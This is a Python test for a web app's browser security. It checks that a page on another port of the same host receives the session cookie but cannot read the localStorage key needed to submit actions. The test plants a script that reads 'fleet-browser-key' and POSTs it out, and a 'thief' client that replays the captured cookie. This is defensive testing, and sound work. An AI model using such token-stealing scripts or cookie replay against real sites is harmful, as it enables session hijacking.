"""What Chromium gives to another server of the same host, on another port."""

from __future__ import annotations

import httpx

from tests.browser.conftest import Person
from tests.support import wait_until
from tests.support.fleet import KEY_HEADER
from tests.support.receivers import Receiver

SUBMIT = "/actions/submit"
CURIOUS = b"<script>fetch('/key/' + localStorage.getItem('fleet-browser-key'), { method: 'POST' })</script>"


def test_another_port_receives_the_cookie_but_not_the_key_without_which_nothing_changes(
    person: Person, receiver: Receiver
) -> None:
    person.api.add_work()
    key = person.page.evaluate("localStorage.getItem('fleet-browser-key')")
    receiver.answers, receiver.body, receiver.headers = [200], CURIOUS, {"Content-Type": "text/html"}
    # A window of its own: the pages of a person may request nothing from elsewhere.
    person.context.new_page().goto(receiver.url)
    wait_until(lambda: [each.path for each in receiver.sent if each.path.startswith("/key/")] == ["/key/null"])
    with httpx.Client(base_url=person.api.url, headers={"Cookie": receiver.sent[0].headers["cookie"]}) as thief:
        order = {"prompt": "Steal it", "project": "demo"}
        assert (thief.get("/").status_code, thief.post(SUBMIT, data=order).status_code) == (200, 403)
        assert thief.post(SUBMIT, data=order, headers={KEY_HEADER: key}).status_code == 303
